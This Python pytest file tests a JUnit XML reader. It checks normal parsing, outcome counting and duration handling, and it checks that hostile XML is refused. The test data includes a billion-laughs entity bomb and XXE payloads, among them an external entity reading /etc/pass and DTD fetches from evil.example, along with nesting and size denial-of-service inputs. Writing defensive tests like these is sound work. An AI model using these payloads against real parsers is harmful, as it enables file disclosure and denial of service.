"""A hostile guest's JUnit: read where it is JUnit, refused with one line where it is not, in bounded time."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from banger.batch import junit
from banger.batch.junit import Case, Suite, counts, durations, read_junit, read_junit_file
from banger.batch.state import Tests
from banger.contracts.errors import InvalidInputError

PYTEST = b"""<?xml version="1.0" encoding="utf-8"?>
<testsuites name="pytest tests"><testsuite name="pytest" errors="1" failures="1" skipped="1" tests="4"
 time="0.4" timestamp="2026-11-28T16:31:05.123456+00:00" hostname="guest">
<properties><property name="python" value="3.12"/></properties>
<testcase classname="tests.test_a" name="test_good" time="0.100" file="tests/test_a.py" line="4">
<system-out>said &amp; done</system-out></testcase>
<testcase classname="tests.test_a" name="test_bad" time="0.200" file="tests/test_a.py">
<failure message="assert 1 == 2" type="AssertionError">def test_bad():
&gt;  assert 1 == 2</failure></testcase>
<testcase classname="tests.test_b" name="test_broken" time="0.050"><error message="no fixture"/></testcase>
<testcase classname="tests.test_b" name="test_off" time="0.050">
<skipped type="pytest.skip" message="off">why</skipped></testcase></testsuite></testsuites>"""


def test_what_pytest_writes_is_read() -> None:
    (suite,) = read_junit(PYTEST)
    assert (suite.name, suite.properties) == ("pytest", (("python", "3.12"),))
    good, bad, broken, off = suite.cases
    assert good == Case(
        "test_good", "tests.test_a", "tests/test_a.py", "4", 0.1, "passed", system_out="said & done"
    )
    assert (bad.outcome, bad.message, bad.kind) == ("failure", "assert 1 == 2", "AssertionError")
    assert bad.text == "def test_bad():\n>  assert 1 == 2"
    assert (broken.outcome, off.outcome, off.text) == ("error", "skipped", "why")


def test_it_is_counted_and_timed() -> None:
    suites = read_junit(PYTEST)
    assert counts(suites) == Tests(
        tests=4,
        failures=1,
        errors=1,
        skipped=1,
        failed=("tests.test_a::test_bad", "tests.test_b::test_broken"),
    )
    assert durations(suites) == {"tests/test_a.py": 0.3, "tests.test_b": 0.1}
    assert counts(()) == Tests()


@pytest.mark.parametrize(
    ("data", "cases"),
    [
        (b'<testsuite name="s"><testcase name="a"/></testsuite>', ["a"]),
        (b'<testsuites><testsuite name="s"><testsuite name="t"><testcase name="a"/></testsuite>'
         b'<testcase name="b"/></testsuite></testsuites>', ["a", "b"]),
        (b'<testsuite xmlns="http://x"><testcase name="a"/></testsuite>', ["a"]),
        (b"<testsuites/>", []),
        (b"<testsuites><testcase name='lost'/></testsuites>", []),
        (b"<testsuite><testcase name='a'><testcase name='inner'/></testcase></testsuite>", ["a"]),
        ("<testsuite><testcase name='ü'/></testsuite>".encode("utf-16"), ["ü"]),
        (b"<?xml version='1.0' encoding='latin1'?><testsuite><testcase name='\xfc'/></testsuite>", ["ü"]),
        (b"<testsuite><testcase/></testsuite>", [""]),
    ],
)  # fmt: skip
def test_the_shapes_that_writers_have(data: bytes, cases: list[str]) -> None:
    assert [case.name for suite in read_junit(data) for case in suite.cases] == cases


@pytest.mark.parametrize(
    ("inner", "outcome"),
    [
        ("<skipped/><failure/>", "failure"),
        ("<failure/><error/>", "error"),
        ("<rerunFailure/>", "passed"),
        ("<system-out><failure/></system-out>", "passed"),
    ],
)
def test_of_several_results_the_gravest_counts(inner: str, outcome: str) -> None:
    (suite,) = read_junit(f"<testsuite><testcase>{inner}</testcase></testsuite>".encode())
    assert suite.cases[0].outcome == outcome


def test_a_test_that_only_an_attribute_skips_is_skipped() -> None:
    (suite,) = read_junit(b'<testsuite><testcase status="notrun"/><testcase status="run"/></testsuite>')
    assert [case.outcome for case in suite.cases] == ["skipped", "passed"]


LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + "]><testsuite name='&a11;'/>"
).encode()


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (LAUGHS, "document type or entities"),
        (b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/pass'>]><testsuite>&e;</testsuite>", "document type"),
        (b"<!DOCTYPE x SYSTEM 'http://evil.example/x.dtd'><testsuite/>", "document type"),
        (b"<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://evil.example/'> %p;]><testsuite/>", "document type"),
        (b"", "not valid XML"),
        (b"no xml", "not valid XML"),
        (b"<testsuite><testcase></testsuite>", "not valid XML"),
        (b"<testsuite>\xff\xfe</testsuite>", "not valid XML"),
        (b"<testsuite>&unknown;</testsuite>", "not valid XML"),
        (b"<testsuite>\x1b[31m</testsuite>", "not valid XML"),
        (b"<testsuite/><testsuite/>", "not valid XML"),
        (b"<?xml version='1.0' encoding='no-such'?><testsuite/>", "not valid XML"),
        (b"<?xml version='1.0' encoding='utf-7'?><testsuite/>", "not valid XML"),
        (b"<?xml version='1.0' encoding='base64'?><testsuite/>", "not valid XML"),
        (b"\0" * 1000, "not valid XML"),
        (b"<html><testsuite/></html>", "its root is <html>"),
        (b"<testsuite>" * 100, "more than 64 levels"),
        (b"<testsuite>" * 1_000_000, "more than 64 levels"),
        (b"<testsuite>" + b"<a/>" * 300_000 + b"</testsuite>", "200000 elements"),
        (b"<testsuite><testcase name='" + b"x" * (15 << 20) + b"'/></testsuite>", "a tag of more than"),
        (b"<testsuite><testcase " + b"".join(b"a%d='' " % n for n in range(1_000_000)), "a tag of more than"),
        (b"<testsuite>" + b" " * (16 << 20), "larger than 16 MiB"),
    ],
)  # fmt: skip
def test_what_is_none_or_made_to_hurt_is_refused_with_one_line(data: bytes, why: str) -> None:
    began = time.process_time()
    with pytest.raises(InvalidInputError) as caught:
        read_junit(data)
    assert time.process_time() - began < 10
    assert why in str(caught.value)
    assert "\n" not in str(caught.value)
    assert len(str(caught.value)) < 300


def test_a_large_file_is_read_and_its_texts_are_bounded() -> None:
    case = (
        b"<testcase classname='c' name='n' time='1'><failure>" + b"x &lt;" * 50_000 + b"</failure></testcase>"
    )
    data = b"<testsuite>" + case * 50 + b"</testsuite>"
    began = time.process_time()
    (suite,) = read_junit(data)
    assert time.process_time() - began < 20
    assert len(suite.cases) == 50
    assert all(len(case.text) < 70_000 and case.text.endswith("(cut)") for case in suite.cases)


def test_names_are_one_short_line() -> None:
    (suite,) = read_junit(b"<testsuite name='s'><testcase name='a&#10;b" + b"x" * 9000 + b"'/></testsuite>")
    assert suite.cases[0].name.startswith("a b")
    assert len(suite.cases[0].name) == 512


@pytest.mark.parametrize(
    ("text", "seconds"),
    [("1.5", 1.5), ("1,234.5", 1234.5), ("", 0), ("nan", 0), ("inf", 0), ("-1", 0), ("1e300", 0), ("x", 0),
     ("1" * 5000, 0)],
)  # fmt: skip
def test_only_sane_durations_count(text: str, seconds: float) -> None:
    (suite,) = read_junit(f"<testsuite><testcase file='f' time='{text}'/></testsuite>".encode())
    assert durations([suite]) == {"f": seconds}


def test_durations_and_names_of_failures_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(junit, "MAX_DURATIONS", 2)
    cases = tuple(Case(f"n{n}" * 100, f"c{n % 4}", time_s=1, outcome="failure") for n in range(40))
    assert durations([Suite("s", cases)]) == {"c0": 10, "c1": 10}
    found = counts([Suite("s", cases)])
    assert (found.failures, len(found.failed)) == (40, 10)
    assert max(map(len, found.failed)) <= 160


def test_no_link_is_followed_to_a_file(tmp_path: Path) -> None:
    (tmp_path / "a.xml").write_bytes(PYTEST)
    (tmp_path / "link.xml").symlink_to("a.xml")
    assert read_junit_file(tmp_path / "a.xml") == read_junit(PYTEST)
    with pytest.raises(OSError, match="symbolic link"):
        read_junit_file(tmp_path / "link.xml")
